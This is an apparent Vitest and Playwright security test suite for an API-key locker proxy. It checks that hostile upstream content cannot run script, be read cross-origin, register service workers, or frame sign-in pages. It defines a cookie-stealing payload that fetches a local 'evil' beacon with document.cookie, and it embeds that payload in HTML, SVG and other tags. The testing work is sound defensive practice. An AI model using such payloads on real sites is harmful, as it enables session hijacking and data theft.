import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { Person } from "../../src/local/person.ts";
import type { LocalLocker } from "../../src/local/serve.ts";
import { CHROMIUM, launchChromium } from "../support/chromium.ts";
import { mintToken, newPerson, storeKey, usualLocker } from "../support/locker.ts";
import { startUpstream, type Upstream } from "../support/upstream.ts";

/** What a hostile upstream would like to run with a victim's session: it reports whatever it could reach. */
const PAYLOAD = (beacon: string) =>
  `fetch("${beacon}/ran?" + encodeURIComponent(document.cookie + location.origin), { mode: "no-cors" })`;

describe.skipIf(CHROMIUM === undefined)("a hostile upstream in a real browser (D13, S1)", () => {
  let locker: LocalLocker;
  let upstream: Upstream;
  let evilSite: Server;
  let evil: string;
  let ran: string[] = [];
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let victim: Person;
  let link: (path: string) => string;

  beforeAll(async () => {
    [locker, upstream, browser] = await Promise.all([usualLocker(), startUpstream(), launchChromium()]);
    evilSite = createServer((request, response) => {
      if (request.url?.startsWith("/ran") === true) ran.push(request.url);
      response.writeHead(200, { "content-type": "text/html" }).end("<!doctype html><title>evil</title>");
    });
    await new Promise<void>((done) => evilSite.listen(0, "127.0.0.1", done));
    evil = `http://127.0.0.1:${(evilSite.address() as AddressInfo).port}`;
    const attacker = await newPerson(locker, "mallory");
    await storeKey(attacker, "evil", upstream.origin);
    const { token } = await mintToken(attacker);
    link = (path) => `${locker.proxyOrigin}/v1/proxy/evil/${path}?key=${token}`;
    victim = await newPerson(locker, "victim");
  }, 60_000);
  afterAll(async () => {
    await Promise.all([browser.close(), upstream.stop()]);
    evilSite.close();
  });
  beforeEach(async () => {
    ran = [];
    context = await browser.newContext();
    const [name = "", value = ""] = victim.cookie.split("=");
    await context.addCookies([{ name, value, url: locker.publicOrigin }]);
    page = await context.newPage();
    upstream.seen.length = 0;
  });
  afterEach(() => context.close());

  /** The upstream answers with active content of this type. */
  const answer = (type: string, body: string, headers: Record<string, string> = {}) =>
    upstream.answerWith(
      (_request, response) => void response.writeHead(200, { "content-type": type, ...headers }).end(body),
    );
  const script = () => `<script>${PAYLOAD(evil)}</script>`;

  it("the victim is really signed in in this browser", async () => {
    await page.goto(locker.publicOrigin);
    await page
      .getByText(/^victim-/)
      .first()
      .waitFor();
  });

  it.each([
    ["an HTML page", "text/html", () => script()],
    ["an SVG image", "image/svg+xml", () => `<svg xmlns="http://www.w3.org/2000/svg">${script()}</svg>`],
    [
      "an XHTML page",
      "application/xhtml+xml",
      () => `<html xmlns="http://www.w3.org/1999/xhtml"><body>${script()}</body></html>`,
    ],
    ["something without a type", "", () => script()],
  ])(
    "opening %s through the proxy shows a refusal and runs nothing, and the upstream is not even asked",
    async (_what, type, body) => {
      answer(type, body());
      const response = await page.goto(link("x.html"));
      expect(response?.status()).toBe(403);
      expect(upstream.seen).toEqual([]);
      expect(ran).toEqual([]);
    },
  );

  it.each(["iframe", "embed", "object", "img", "script", "link"])("embedded as <%s> it runs nothing", async (tag) => {
    answer(tag === "script" ? "text/javascript" : "text/html", tag === "script" ? PAYLOAD(evil) : script());
    await page.goto(evil);
    const attribute = { link: `rel="stylesheet" href`, object: "data" }[tag] ?? "src";
    await page.setContent(`<${tag} ${attribute}="${link("x")}"></${tag}>`, { waitUntil: "load" });
    expect(ran).toEqual([]);
    expect(upstream.seen).toEqual([]);
  });

  it("a page of another site can read nothing of an answer", async () => {
    answer("application/json", "{}", {
      "access-control-allow-origin": "*",
      "access-control-allow-credentials": "true",
    });
    await page.goto(evil);
    const read = await page.evaluate(async (url) => {
      try {
        return await (await fetch(url)).text();
      } catch {
        return "blocked";
      }
    }, link("x"));
    expect(read).toBe("blocked");
  });

  it("a redirect to hostile content is not followed into a page", async () => {
    upstream.answerWith(
      (_request, response) => void response.writeHead(302, { location: `${evil}/ran?redirect` }).end(),
    );
    const response = await page.goto(link("x"));
    expect(response?.status()).toBe(403);
    expect(ran).toEqual([]);
  });

  it("no service worker can be registered from an answer, on either origin", async () => {
    answer("text/javascript", "self.addEventListener('fetch', () => {})", { "service-worker-allowed": "/" });
    for (const origin of [locker.publicOrigin, locker.proxyOrigin]) {
      await page.goto(origin).catch(() => null);
      const register = `navigator.serviceWorker.register(${JSON.stringify(link("worker.js"))}, { scope: "/" })`;
      const outcome = await page.evaluate(
        `(async () => { try { await ${register}; return "registered"; } catch { return "refused"; } })()`,
      );
      expect(outcome).toBe("refused");
    }
  });

  it("an answer that a program saved and opens is sandboxed all the same", async () => {
    answer("text/html", script());
    const saved = await fetch(link("x"));
    expect(saved.headers.get("content-security-policy")).toMatch(/^sandbox;/);
    expect(saved.headers.get("content-disposition")).toBe("attachment");
  });

  it("our own pages may not be framed, and those on which somebody signs in carry no script", async () => {
    await page.goto(evil);
    await page.setContent(`<iframe src="${locker.publicOrigin}"></iframe>`, { waitUntil: "load" });
    const [, frame] = page.frames();
    expect(await frame?.content()).not.toContain("API Locker");
    await context.clearCookies();
    await page.goto(locker.publicOrigin);
    await page.getByRole("heading", { name: "Sign in" }).waitFor();
    expect(await page.locator("script").count()).toBe(0);
  });
});
